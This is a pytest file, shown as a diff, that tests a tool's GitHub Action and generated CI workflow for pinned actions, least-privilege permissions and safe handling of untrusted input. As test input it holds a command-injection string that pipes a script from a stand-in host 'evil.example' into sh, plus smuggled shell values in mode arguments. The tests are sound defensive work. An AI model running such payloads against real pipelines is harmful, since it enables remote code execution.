@@ -1,0 +1,272 @@
+"""``action.yml`` and the workflow of ``tablectl init``: as files, linted, and run by hand."""
+
+from __future__ import annotations
+
+import ast
+import os
+import re
+import shutil
+import subprocess
+from collections.abc import Iterator, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+import tablectl.ci.steps
+from tablectl.ci.steps import STEPS
+from tablectl.cli.scaffold import scaffold
+from tests.ci.conftest import FakeGitHub, Runner
+from tests.ci.hand import OURS, Hand, bash_reads
+from tests.cli.conftest import Cli, FakeSpark, Repository
+from tests.cli.log_lake import Logged, set_property
+
+ROOT = Path(__file__).parents[2]
+ACTION: dict[str, Any] = yaml.safe_load((ROOT / "action.yml").read_text())
+WORKFLOW_TEXT = scaffold()[".github/workflows/tablectl.yml"]
+WORKFLOW: dict[str, Any] = yaml.safe_load(WORKFLOW_TEXT)
+FILES: list[tuple[str, list[dict[str, Any]]]] = [
+    ("action.yml", ACTION["runs"]["steps"]),
+    *((f"job {name}", job["steps"]) for name, job in WORKFLOW["jobs"].items()),
+]
+EVIL = 'x"; curl evil.example | sh #`$(id)`'
+COMMIT, HEAD = "c" * 40, "a" * 40
+
+
+def texts(value: Any) -> Iterator[str]:
+    match value:
+        case dict():
+            for each in value.values():
+                yield from texts(each)
+        case list():
+            for each in value:
+                yield from texts(each)
+        case _:
+            yield str(value)
+
+
+def outputs_of(step: str) -> set[str]:
+    """The outputs that a step of ours writes."""
+    tree = ast.parse(Path(str(tablectl.ci.steps.__file__)).read_text())
+    (function,) = [node for node in tree.body if isinstance(node, ast.FunctionDef) and node.name == f"{step}_step"]
+    calls = [
+        each for each in ast.walk(function) if isinstance(each, ast.Call) and ast.unparse(each.func) == "job.output"
+    ]
+    return {str(each.arg).replace("_", "-") for call in calls for each in call.keywords}
+
+
+def test_every_input_is_declared_and_used() -> None:
+    used = set(re.findall(r"\binputs\.([\w-]+)", " ".join(texts(ACTION))))
+    assert used == set(ACTION["inputs"])
+    for name, given in ACTION["inputs"].items():
+        assert given["description"].strip()
+        assert ("default" in given) != given.get("required", False), name
+
+
+@pytest.mark.parametrize(("file", "steps"), FILES)
+def test_no_shell_reads_an_expression(file: str, steps: list[dict[str, Any]]) -> None:
+    """Branches, titles and inputs are what anybody writes: they reach scripts as variables alone."""
+    for step in steps:
+        assert ("uses" in step) != ("run" in step)
+        if "run" in step:
+            assert "${{" not in step["run"]
+            assert bash_reads(step["run"])
+            assert file != "action.yml" or step["shell"] == "bash"
+        else:
+            assert re.fullmatch(r"[\w-]+/[\w/-]+@(v\d+|[0-9a-f]{40})", step["uses"])
+    for text in texts(steps):
+        assert "github.event." not in text
+        assert "github.head_ref" not in text
+
+
+@pytest.mark.parametrize(("file", "steps"), FILES)
+def test_steps_are_ours_and_what_is_read_of_them_is_written(file: str, steps: list[dict[str, Any]]) -> None:
+    known: dict[str, set[str]] = {}
+    for step in steps:
+        for name, output in re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", " ".join(texts(step))):
+            assert output in known[name], f"{file}: {name}.{output}"
+        ours = OURS.match(step.get("run", ""))
+        if ours:
+            known[step.get("id", "")] = outputs_of(ours[1])
+            assert ours[1] in STEPS
+            assert ("INPUT_TOKEN" in step.get("env", {})) == (ours[1] in {"find", "comment"})
+        elif "id" in step:
+            known[step["id"]] = {"python", "python-path"}
+    for output in ACTION["outputs"].values():
+        for name, key in re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", output["value"]):
+            assert key in outputs_of(name)
+
+
+def test_jobs_have_the_rights_that_they_need_and_never_apply_at_once() -> None:
+    assert WORKFLOW["permissions"] == {}
+    jobs = WORKFLOW["jobs"]
+    assert {name: job["permissions"] for name, job in jobs.items()} == {
+        "plan": {"contents": "read", "pull-requests": "write", "security-events": "write"},
+        "apply": {"actions": "read", "contents": "read", "pull-requests": "write"},
+        "drift": {"contents": "read"},
+    }
+    assert jobs["apply"]["concurrency"] == {"group": "tablectl-apply", "cancel-in-progress": False}
+    assert jobs["plan"]["concurrency"]["cancel-in-progress"] is True
+
+
+def actionlint() -> str | None:
+    return shutil.which("actionlint")
+
+
+@pytest.mark.skipif(
+    actionlint() is None,
+    reason="actionlint is not installed (go install github.com/rhysd/actionlint/cmd/actionlint@latest): "
+    "workflows are checked by these tests alone",
+)
+def test_actionlint_finds_nothing(tmp_path: Path) -> None:
+    """The workflow of ``init``, and one that uses the action with every input that it has."""
+    workflows = tmp_path / ".github" / "workflows"
+    workflows.mkdir(parents=True)
+    (tmp_path / ".git").mkdir()
+    (workflows / "tablectl.yml").write_text(WORKFLOW_TEXT)
+    action = tmp_path / ".github" / "actions" / "tablectl"
+    action.mkdir(parents=True)
+    shutil.copy(ROOT / "action.yml", action)
+    job = {
+        "runs-on": "ubuntu-latest",
+        "steps": [
+            {"id": "t", "uses": "./.github/actions/tablectl", "with": dict.fromkeys(ACTION["inputs"], "x")},
+            *({"run": "echo ${{ steps.t.outputs." + name + " }}"} for name in ACTION["outputs"]),
+        ],
+    }
+    (workflows / "uses.yml").write_text(yaml.safe_dump({"on": "push", "jobs": {"one": job}}))
+    ran = subprocess.run([str(actionlint()), "-shellcheck="], cwd=tmp_path, capture_output=True, text=True, check=False)
+    assert (ran.returncode, ran.stdout) == (0, "")
+
+
+@pytest.mark.parametrize(
+    ("mode", "extras", "installed"),
+    [
+        ("plan", "", ""),
+        ("plan", "spark,aws", "[spark,aws]"),
+        ("drift", "aws", "[aws]"),
+        ("apply", "", "[spark]"),
+        ("apply", "aws", "[spark,aws]"),
+        ("apply", "databricks", "[databricks]"),
+    ],
+)
+def test_what_is_installed(tmp_path: Path, mode: str, extras: str, installed: str) -> None:
+    ran = install(tmp_path, mode, extras)
+    assert ran.returncode == 0, ran.stderr
+    assert (tmp_path / "asked").read_text().splitlines()[-1] == (
+        f"-m pip install --quiet --disable-pip-version-check /the action{installed}"
+    )
+    assert (tmp_path / "output").read_text() == f"python={tmp_path}/tablectl-venv/bin/python\n"
+
+
+@pytest.mark.parametrize("mode", ["", "destroy", "apply; id", "$(touch evil)"])
+def test_a_mode_that_is_none_ends_at_once(tmp_path: Path, mode: str) -> None:
+    ran = install(tmp_path, mode, "")
+    assert ran.returncode == 64
+    assert ran.stdout == "::error title=tablectl::mode is plan, apply or drift\n"
+    assert not (tmp_path / "asked").exists()
+    assert not (tmp_path / "evil").exists()
+
+
+def install(folder: Path, mode: str, extras: str) -> subprocess.CompletedProcess[str]:
+    """The script of the action, with a Python that only notes what it was asked for."""
+    python = folder / "python"
+    python.write_text(
+        f"""#!/bin/sh
+echo "$@" >> "{folder}/asked"
+if [ "$2" = venv ]; then mkdir -p "$3/bin" && cp "$0" "$3/bin/python"; fi
+"""
+    )
+    python.chmod(0o755)
+    (script,) = [step["run"] for step in ACTION["runs"]["steps"] if step.get("id") == "install"]
+    environ = {
+        "PATH": os.environ["PATH"],
+        "MODE": mode,
+        "EXTRAS": extras,
+        "PYTHON": str(python),
+        "RUNNER_TEMP": str(folder),
+        "GITHUB_ACTION_PATH": "/the action",
+        "GITHUB_OUTPUT": str(folder / "output"),
+    }
+    return subprocess.run(
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
+        cwd=folder,
+        env=environ,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+Context = Mapping[str, str]
+
+
+def of_action(mode: str, **inputs: str) -> tuple[list[dict[str, Any]], dict[str, str]]:
+    given = {name: str(declared.get("default", "")) for name, declared in ACTION["inputs"].items()}
+    given |= {"mode": mode, "token": "ghs_a-token"} | {key.replace("_", "-"): value for key, value in inputs.items()}
+    return ACTION["runs"]["steps"], {f"inputs.{key}": value for key, value in given.items()}
+
+
+def of_workflow(mode: str, **inputs: str) -> tuple[list[dict[str, Any]], dict[str, str]]:
+    known = {"github.token": "ghs_a-token", "inputs.plan-run": inputs.get("plan_run", "")}
+    return WORKFLOW["jobs"][mode]["steps"], known
+
+
+@pytest.mark.parametrize("of", [of_action, of_workflow])
+def test_the_life_of_a_change(
+    repo: Repository, cli: Cli, fake_spark: FakeSpark, runner: Runner, github: FakeGitHub, tmp_path: Path, of: Any
+) -> None:
+    """Pull request → comment and artifact → merge → apply → schedule, step by step as the files have them."""
+    orders = repo.table("orders", properties={"owner.team": "web"})
+    repo.policies({"orders": "{properties: {owner.team: pay}}"})
+    number = iter(range(10, 20))
+
+    def job(mode: str, **inputs: str) -> tuple[int, list[str]]:
+        steps, context = of(mode, **inputs)
+        hand = Hand(runner, github, tmp_path / "store", HEAD, next(number), context)
+        return hand.play(steps), hand.done
+
+    head = {"ref": EVIL, "sha": HEAD}
+    runner.event(pull_request={"number": 5, "title": EVIL, "body": EVIL, "head": head})
+    code, done = job("plan")
+    assert code == 0
+    assert {"github/codeql-action/upload-sarif", "Annotate the policies"} & set(done)
+    assert github.comments[5][0]["body"].startswith("**🟡 Plan: ")
+    assert [each["name"] for each in github.artifacts] == ["tablectl-plan-pr-5"]
+    assert job("plan")[0] == 0, "the next push"
+    assert len(github.comments[5]) == 1
+
+    runner.event(ref="refs/heads/main")
+    code, _ = job("apply")
+    assert code == 3, "not merged by a pull request"
+    assert fake_spark.engines == []
+    github.merged(5, head=HEAD, commit=COMMIT)
+    code, _ = job("apply")
+    assert code == 0
+    assert Logged(orders).properties == {"owner.team": "pay"}
+    assert [each["body"].split(":")[0] for each in github.comments[5]] == ["**🟡 Plan", "**✅ Apply"]
+    assert job("drift")[0] == 0
+
+    set_property(orders, "owner.team", "somebody else")
+    assert job("drift")[0] == 2
+    assert job("apply")[0] == 3, "stale"
+    runner.event(workflow_dispatch={})
+    assert job("plan")[0] == 0
+    (by_hand,) = [each for each in github.artifacts if each["name"] == "tablectl-plan"]
+    assert job("apply", plan_run=str(by_hand["workflow_run"]["id"]))[0] == 0
+    assert Logged(orders).properties == {"owner.team": "pay"}
+
+
+def test_where_no_comment_and_no_annotation_is_wanted(
+    repo: Repository, cli: Cli, runner: Runner, github: FakeGitHub, tmp_path: Path
+) -> None:
+    repo.table("orders")
+    repo.policies({"orders": "{isolation: Serializable}"})
+    runner.event(pull_request={"number": 5})
+    steps, context = of_action("plan", comment="false", sarif="false", name="lake-prod")
+    hand = Hand(runner, github, tmp_path / "store", HEAD, 10, context)
+    assert hand.play(steps) == 0
+    assert hand.done == ["Python", "Install tablectl", "Plan", "Keep the plan and the reports"]
+    assert github.asked == []
+    assert github.artifacts[0]["name"] == "lake-prod-plan-pr-5"
